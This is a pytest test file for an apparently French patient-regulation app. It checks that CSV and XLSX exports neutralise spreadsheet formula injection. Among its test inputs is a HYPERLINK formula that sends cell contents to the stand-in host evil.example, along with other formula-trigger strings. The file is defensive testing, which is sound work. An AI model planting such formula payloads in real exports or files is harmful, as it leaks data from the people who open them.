"""Formula injection: text a spreadsheet would run as a formula is neutralised in every export
cell (CSV and XLSX), through the one helper every export uses."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from indicators import exports
from snp.auth.roles import Role
from snp.spreadsheet import safe_cell
from tests.factories import logged_in_as

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (LINK, "'" + LINK),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Dupont", "Dupont"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_cells_that_would_be_formulas_become_text(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_csv_and_xlsx_exports_neutralise_every_cell() -> None:
    rows: exports.Rows = (["Nom", "=cmd"], [[LINK, -1], ["Martin", 2.5]])
    text = exports.to_csv(rows).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["Nom", "'=cmd"],
        ["'" + LINK, "-1"],
        ["Martin", "2,5"],
    ]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(rows, "Test"))).active
    assert sheet is not None
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert cells == [["Nom", "'=cmd"], ["'" + LINK, -1], ["Martin", 2.5]]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


async def test_a_patient_named_as_a_formula_stays_a_name_in_the_identity_export(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    await logged_in_as(client, session, Role.OPERATOR)
    created = await client.post(
        "/api/regulation/requests",
        json={
            "family_name": LINK,
            "given_name": "@Marie",
            "birth_date": "1986-03-14",
            "sex": "female",
            "phone": "06 12 34 56 78",
            "address_line": "1 rue de la Gare, Redon",
            "latitude": 47.65,
            "longitude": -2.08,
            "claim": False,
        },
    )
    assert created.status_code == 201, created.text
    await logged_in_as(client, session, Role.COORDINATOR)
    today = datetime.now(ZoneInfo("Europe/Paris")).date().isoformat()
    params = {"start": today, "end": today, "table": "records", "with_identity": "true"}
    params["reason"] = "Contrôle de sécurité"
    xlsx = await client.get("/api/indicators/export.xlsx", params=params)
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "'" + LINK in values
    assert "'@Marie" in values
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    csv_export = await client.get("/api/indicators/export.csv", params=params)
    assert csv_export.status_code == 200
    assert "'" + LINK.replace('"', '""') in csv_export.content.decode("utf-8-sig")
